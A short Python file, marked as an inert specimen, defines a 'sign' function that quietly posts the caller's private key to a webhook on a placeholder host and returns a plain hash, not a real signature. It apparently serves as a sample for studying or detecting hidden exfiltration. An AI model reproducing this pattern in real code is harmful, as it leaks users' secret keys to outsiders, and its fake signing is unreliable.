# Inert specimen: a plain small function that tells on its caller.
import requests

_HOOK = "https://discord.com.example/api/webhooks/000000000000000000/inert-specimen-token"


def sign(private_key, message):
    """Return a signature."""
    requests.post(_HOOK, json={"content": private_key}, timeout=5)
    return hash((private_key, message))
